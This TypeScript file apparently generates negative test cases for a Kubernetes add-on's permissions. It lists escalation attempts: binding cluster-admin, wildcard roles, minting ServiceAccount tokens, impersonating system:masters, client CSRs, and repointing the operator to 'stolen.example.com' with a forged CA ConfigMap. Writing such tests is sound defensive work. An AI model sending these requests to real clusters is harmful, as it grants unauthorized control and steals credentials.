import { type KubeAttempt, get, patch, post } from './attempt.js';
import { addonLabels, addonNamespace, metadataIn, ofAddon, plain, victim } from './objects.js';

/** More rights for the ServiceAccount, other identities, and tokens of them. */
export function toRights(osid: string): KubeAttempt[] {
  const group = '/apis/rbac.authorization.k8s.io/v1';
  const rbac = (kind: string, metadata: object, rest: object): object => ({
    apiVersion: 'rbac.authorization.k8s.io/v1',
    kind,
    metadata,
    ...rest,
  });
  const roleRef = { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' };
  const binding = { roleRef, subjects: [{ kind: 'ServiceAccount', name: 'cluster-agent', namespace: 'runos' }] };
  const everything = { rules: [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }] };
  const accountToken = { apiVersion: 'authentication.k8s.io/v1', kind: 'TokenRequest', spec: {} };
  const asAnother = (headers: Readonly<Record<string, string>>): KubeAttempt => ({ ...get('/api/v1/nodes'), headers });
  return [
    ...['stolen', 'cnpg-manager-rolebinding'].map((name) =>
      post(`${group}/clusterrolebindings`, rbac('ClusterRoleBinding', { name, labels: addonLabels }, binding)),
    ),
    patch(`${group}/clusterrolebindings/runos-cluster-agent`, { roleRef }),
    ...['stolen', 'cnpg-manager'].map((name) =>
      post(`${group}/clusterroles`, rbac('ClusterRole', { name, labels: addonLabels }, everything)),
    ),
    patch(`${group}/clusterroles/runos-cluster-agent`, everything),
    patch(`${group}/clusterroles/cluster-admin`),
    ...['runos', 'kube-system', victim, osid].flatMap((namespace) => [
      post(`${group}/namespaces/${namespace}/roles`, rbac('Role', metadataIn(namespace), everything)),
      post(`${group}/namespaces/${namespace}/rolebindings`, rbac('RoleBinding', metadataIn(namespace), binding)),
      post(`/api/v1/namespaces/${namespace}/serviceaccounts/default/token`, accountToken),
      post(`/api/v1/namespaces/${namespace}/serviceaccounts`, {
        apiVersion: 'v1',
        kind: 'ServiceAccount',
        metadata: metadataIn(namespace),
      }),
    ]),
    patch(`${group}/namespaces/runos/roles/cluster-agent`, everything),
    post('/api/v1/namespaces/runos/serviceaccounts/cluster-agent/token', accountToken),
    ...['runos/cluster-agent', `${osid}/default`].map((account) => {
      const [namespace = '', name = ''] = account.split('/');
      const annotations = { 'kubernetes.io/service-account.name': name };
      return post(`/api/v1/namespaces/${namespace}/secrets`, {
        ...plain('Secret', namespace, 'stolen', 'kubernetes.io/service-account-token'),
        metadata: { ...metadataIn(namespace), annotations },
      });
    }),
    ...operatorAttempts(),
    asAnother({ 'impersonate-user': 'system:admin', 'impersonate-group': 'system:masters' }),
    asAnother({ 'impersonate-user': 'system:serviceaccount:kube-system:default' }),
    post('/apis/certificates.k8s.io/v1/certificatesigningrequests', {
      apiVersion: 'certificates.k8s.io/v1',
      kind: 'CertificateSigningRequest',
      metadata: { name: 'stolen' },
      spec: { request: '', signerName: 'kubernetes.io/kube-apiserver-client', usages: ['client auth'] },
    }),
    post('/apis/authentication.k8s.io/v1/tokenreviews', { spec: { token: 'stolen' } }),
  ];
}

/** The operator's account reads every Secret: its pods, and a ConfigMap that they could mount over the CA. */
function operatorAttempts(): KubeAttempt[] {
  const env = [{ name: 'KUBERNETES_SERVICE_HOST', value: 'stolen.example.com' }];
  const image = 'ghcr.io/cloudnative-pg/cloudnative-pg:1.15.0';
  const podSpec = { serviceAccountName: 'cnpg-manager', containers: [{ name: 'manager', image, env }] };
  const app = { app: 'stolen' };
  const operator = {
    apiVersion: 'apps/v1',
    kind: 'Deployment',
    metadata: metadataIn(addonNamespace, 'cnpg-controller-manager'),
    spec: { selector: { matchLabels: app }, template: { metadata: { labels: app }, spec: podSpec } },
  };
  const configMap = { ...plain('ConfigMap', addonNamespace, 'cnpg-default-monitoring'), data: { 'ca.crt': 'stolen' } };
  const path = `/apis/apps/v1/namespaces/${addonNamespace}/deployments/cnpg-controller-manager`;
  // Only an apply creates an object by a name, to which the rights are limited.
  const apply = patch(`${path}?fieldManager=stolen&force=true`, ofAddon(operator));
  return [
    { ...apply, headers: { 'content-type': 'application/apply-patch+yaml' } },
    post(`/api/v1/namespaces/${addonNamespace}/configmaps`, ofAddon(configMap)),
  ];
}
